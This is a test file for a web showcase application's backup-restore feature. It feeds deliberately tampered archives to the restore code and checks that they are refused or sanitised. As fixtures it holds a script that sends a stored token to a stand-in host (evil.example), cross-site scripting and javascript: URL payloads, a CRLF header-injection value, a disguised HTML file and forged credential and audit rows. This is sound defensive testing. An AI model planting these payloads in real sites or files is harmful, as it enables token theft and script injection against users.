import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertAuditEntry } from '../../src/server/modules/audit/audit.repository';
import { hashPassword } from '../../src/server/modules/auth/password';
import { mediaObjects } from '../../src/server/modules/backup/media-objects';
import { DamagedArchiveError } from '../../src/server/modules/backup/read-archive';
import { restoreBackup } from '../../src/server/modules/backup/restore-backup';
import { RESTORE_RULES } from '../../src/server/modules/backup/restore-rules';
import { SITE_OWNED, listTablesInOrder } from '../../src/server/modules/backup/tables';
import { writeBackup } from '../../src/server/modules/backup/write-backup';
import { ADMIN_PASSWORD, startTestApp, type TestApp } from '../helpers/test-app';
import { backupTarget, readArchive, tableOf, withTable, writeArchive } from '../helpers/backup-archive';
import { runCli } from '../helpers/run-cli';
import { rfc6238 } from '../helpers/totp';
import { aCategory, aProduct } from '../helpers/factories';

const ATTACKER_PASSWORD = 'attacker-chosen-password';
const JPEG_HEAD = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0]);

// Issue 23: an edited archive replaced the admin password, turned two-factor off, rewrote the
// audit log, sent visitors elsewhere, and a media/evil.js was served from /uploads/.
describe('a restore checks its archive like the API checks a write', () => {
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'showcase-restore-checks-'));
  const apps: TestApp[] = [];
  let source: TestApp;
  let archive: string;
  let productId: string;
  const start = async (overrides: Record<string, string> = {}) => {
    const t = await startTestApp(overrides);
    apps.push(t);
    return t;
  };
  const edited = async (name: string, edit: (entries: Map<string, Buffer>) => void, options: { signWith?: string } = {}) => {
    const entries = await readArchive(archive);
    edit(entries);
    const file = path.join(work, name);
    await writeArchive(entries, file, options);
    return file;
  };
  const login = (t: TestApp, payload: object) => t.app.inject({ method: 'POST', url: '/api/auth/login', payload, remoteAddress: '10.9.0.1' });
  const withAttackerPassword = async (entries: Map<string, Buffer>) => {
    const hash = await hashPassword(ATTACKER_PASSWORD);
    withTable(entries, 'settings', (rows) => rows.push({ key: 'admin_password_hash', value: hash, updated_at: new Date().toISOString(), version: 1 }));
  };
  const productCount = async (t: TestApp) => (await t.app.ctx.db.selectFrom('products').select('id').execute()).length;

  beforeAll(async () => {
    source = await start();
    const category = (await source.asAdmin({
      method: 'POST', url: '/api/categories',
      payload: aCategory({ slug: 'lessons', title: 'Lessons' }),
    })).json().data;
    const product = await source.asAdmin({
      method: 'POST', url: '/api/products',
      payload: aProduct({ slug: 'first', title: 'First', mainImage: '/uploads/a.jpg', categories: [category.id] }),
    });
    expect(product.statusCode, product.body).toBe(201);
    productId = product.json().data.id;
    await source.asAdmin({ method: 'POST', url: '/api/redirects', payload: { from: '/old-first', to: '/product/first' } });
    archive = path.join(work, 'source.tar.gz');
    await writeBackup(backupTarget(source), fs.createWriteStream(archive));
  }, 60_000);

  afterAll(async () => {
    for (const t of apps) await t.close().catch(() => {});
    fs.rmSync(work, { recursive: true, force: true });
  });

  it('knows every table: each is restored by a rule or belongs to the running site', async () => {
    const tables = await listTablesInOrder(source.app.ctx.db, source.app.ctx.dbKind);
    expect(tables.filter((table) => !(table in RESTORE_RULES) && !SITE_OWNED.has(table))).toEqual([]);
  });

  it('refuses as a whole an archive with a script, an HTML page or a disguised file among its media, and a changed password', async () => {
    const file = await edited('evil.tar.gz', (entries) => {
      entries.set('media/evil.js', Buffer.from('fetch("https://evil.example/?t=" + localStorage.getItem("token"))'));
      entries.set('media/page.jpg', Buffer.from('<!doctype html><script>alert(1)</script>'));
      entries.set('media/shim.html', Buffer.concat([JPEG_HEAD, Buffer.from('<script>alert(1)</script>')]));
    });
    const withPassword = path.join(work, 'evil-and-password.tar.gz');
    const entries = await readArchive(file);
    await withAttackerPassword(entries);
    await writeArchive(entries, withPassword);

    const site = await start();
    const error = await restoreBackup(withPassword, backupTarget(site), { force: false }).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(DamagedArchiveError);
    expect((error as Error).message).toMatch(/media files no upload could have made: media\/evil\.js \(not named like an image or video upload\)/);
    expect((error as Error).message).toMatch(/media\/page\.jpg \(not an image or video\)/);
    expect((error as Error).message).toMatch(/media\/shim\.html/);
    expect((error as Error).message).toMatch(/Nothing was changed/);
    expect((await site.app.inject({ method: 'GET', url: '/uploads/evil.js' })).statusCode).toBe(404);
    expect(await mediaObjects(site.app.ctx.config).list()).toEqual([]);
    expect(await productCount(site)).toBe(0);
    expect((await login(site, { password: ATTACKER_PASSWORD })).statusCode).toBe(401);
    expect((await login(site, { password: ADMIN_PASSWORD })).statusCode).toBe(200);
  });

  it('never takes credentials from an archive: the target keeps its password, second factor, recovery codes and audit log, and everyone is signed out', async () => {
    const file = await edited('credentials.tar.gz', (entries) => {
      withTable(entries, 'audit_log', (rows) => {
        rows.length = 0;
        rows.push({ id: 'forged-entry', at: '2026-01-01T00:00:00.000Z', action: 'auth.login', target_type: 'session', target_id: null, summary: 'Nothing happened here', ip: '' });
      });
      entries.set('db/recovery_codes.json', Buffer.from(JSON.stringify({ format: 'showcase-table', version: 1, table: 'recovery_codes', columns: ['code_hash', 'created_at'], rows: [{ code_hash: 'f'.repeat(64), created_at: new Date().toISOString() }] })));
    });
    const entries = await readArchive(file);
    await withAttackerPassword(entries);
    await writeArchive(entries, file);

    const site = await start();
    const oldToken = await site.token();
    const secret = (await site.asAdmin({ method: 'POST', url: '/api/auth/2fa/setup' })).json().data.secret as string;
    expect((await site.asAdmin({ method: 'POST', url: '/api/auth/2fa/enable', payload: { code: rfc6238(secret) } })).statusCode).toBe(200);
    await insertAuditEntry(site.app.ctx.db, { action: 'site.own', targetType: 'site', summary: 'The target site’s own history' });
    const codesBefore = await site.app.ctx.db.selectFrom('recovery_codes').select('code_hash').orderBy('code_hash').execute();

    await restoreBackup(file, backupTarget(site), { force: false });
    expect(await productCount(site)).toBe(1);
    const old = await site.app.inject({ method: 'GET', url: '/api/backup', headers: { authorization: `Bearer ${oldToken}` } });
    expect(old.statusCode).toBe(401);
    expect((await login(site, { password: ATTACKER_PASSWORD })).statusCode).toBe(401);
    const passwordOnly = await login(site, { password: ADMIN_PASSWORD });
    expect(passwordOnly.statusCode).toBe(401);
    expect(passwordOnly.json().data).toEqual({ twoFactor: true });
    // The next step's code: the current one turned two-factor on, and each step signs in once.
    expect((await login(site, { password: ADMIN_PASSWORD, code: rfc6238(secret, Date.now() + 30_000) })).statusCode).toBe(200);
    expect(await site.app.ctx.db.selectFrom('recovery_codes').select('code_hash').orderBy('code_hash').execute()).toEqual(codesBefore);

    const audit = await site.app.ctx.db.selectFrom('audit_log').select(['id', 'action', 'summary']).execute();
    expect(audit.find((entry) => entry.action === 'site.own')?.summary).toBe('The target site’s own history');
    expect(audit.find((entry) => entry.id === 'forged-entry')?.summary).toBe('Restored from a backup: Nothing happened here');
  });

  it('cleans rows as a write would: rich text is sanitised on the way in', async () => {
    const file = await edited('sanitise.tar.gz', (entries) =>
      withTable(entries, 'products', (rows) => {
        rows[0]!.description = '<p>Hello<img src="x" onerror="alert(1)"></p><script>alert(2)</script>';
      }),
    );
    const site = await start();
    await restoreBackup(file, backupTarget(site), { force: false });
    const product = (await site.asAdmin({ method: 'GET', url: `/api/products/${productId}` })).json().data;
    expect(product.description).toBe('<p>Hello<img src="x" /></p>');
  });

  it('refuses, before anything changes, a row the API would refuse, naming its field', async () => {
    const cases: Array<[string, (entries: Map<string, Buffer>) => void, RegExp]> = [
      ['script-link', (entries) => withTable(entries, 'products', (rows) => void (rows[0]!.buy_link = 'javascript:alert(document.cookie)')), /products row "[^"]+" .*buyLink: must be an http\(s\) URL/],
      ['line-break', (entries) => withTable(entries, 'redirects', (rows) => void (rows.find((row) => row.kind === 'manual')!.to_path = '/a\r\nSet-Cookie: x=1')), /redirects row .*to: /],
      ['hero-link', (entries) => withTable(entries, 'categories', (rows) => void (rows[0]!.hero_config = JSON.stringify({ button1: { isActive: true, text: 'Go', link: 'javascript:alert(1)' } }))), /categories row .*button1\.link: /],
      ['unknown-column', (entries) => withTable(entries, 'tags', (rows) => rows.push({ id: 't', title: 'T', title_key: 't', slug: 't', created_at: new Date().toISOString(), is_admin: 1 })), /tags row "t" .*Unrecognized key/],
    ];
    expect(tableOf(await readArchive(archive), 'redirects').rows.some((row) => row.kind === 'manual')).toBe(true);
    const site = await start();
    for (const [name, edit, message] of cases) {
      const file = await edited(`${name}.tar.gz`, edit);
      const error = await restoreBackup(file, backupTarget(site), { force: false }).catch((caught: unknown) => caught);
      expect(error, name).toBeInstanceOf(DamagedArchiveError);
      expect((error as Error).message, name).toMatch(message);
      expect((error as Error).message, name).toMatch(/Nothing was changed/);
    }
    expect(await productCount(site)).toBe(0);
    expect(await mediaObjects(site.app.ctx.config).list()).toEqual([]);
  });

  it('with BACKUP_KEY, signs archives and refuses unsigned, mis-signed or edited ones before anything changes', async () => {
    const backupKey = 'k'.repeat(40);
    const signed = path.join(work, 'signed.tar.gz');
    await writeBackup({ ...backupTarget(source), backupKey }, fs.createWriteStream(signed));
    expect((await readArchive(signed)).get('manifest.sig')!.toString()).toMatch(/^hmac-sha256:[0-9a-f]{64}\n$/);

    // Content changed after signing, checksums fixed, the old signature kept.
    const entries = await readArchive(signed);
    withTable(entries, 'tags', (rows) => rows.push({ id: 'added', title: 'Added', title_key: 'added', slug: 'added', created_at: new Date().toISOString() }));
    const editedAfterSigning = path.join(work, 'edited-after-signing.tar.gz');
    await writeArchive(entries, editedAfterSigning, { signature: entries.get('manifest.sig') });

    const site = await start({ BACKUP_KEY: backupKey });
    const refusals: Array<[string, RegExp]> = [
      [archive, /BACKUP_KEY is set and this archive is not signed/],
      [await edited('other-key.tar.gz', () => {}, { signWith: 'x'.repeat(40) }), /signature does not match BACKUP_KEY/],
      [editedAfterSigning, /signature does not match BACKUP_KEY/],
    ];
    for (const [file, message] of refusals) {
      await expect(restoreBackup(file, backupTarget(site), { force: false, backupKey })).rejects.toThrow(message);
    }
    expect(await productCount(site)).toBe(0);

    // The command line says why, exits non-zero, and changes nothing.
    const vars = { DATA_DIR: site.env.dataDir, DATABASE_URL: site.env.databaseUrl, ADMIN_PASSWORD, SEED_DEMO: 'false', BACKUP_KEY: backupKey };
    const cli = await runCli(['restore', archive], vars);
    expect(cli.code).toBe(1);
    expect(cli.stderr).toMatch(/BACKUP_KEY is set and this archive is not signed/);
    expect(await productCount(site)).toBe(0);

    await restoreBackup(signed, backupTarget(site), { force: false, backupKey });
    expect(await productCount(site)).toBe(1);
  }, 60_000);
});
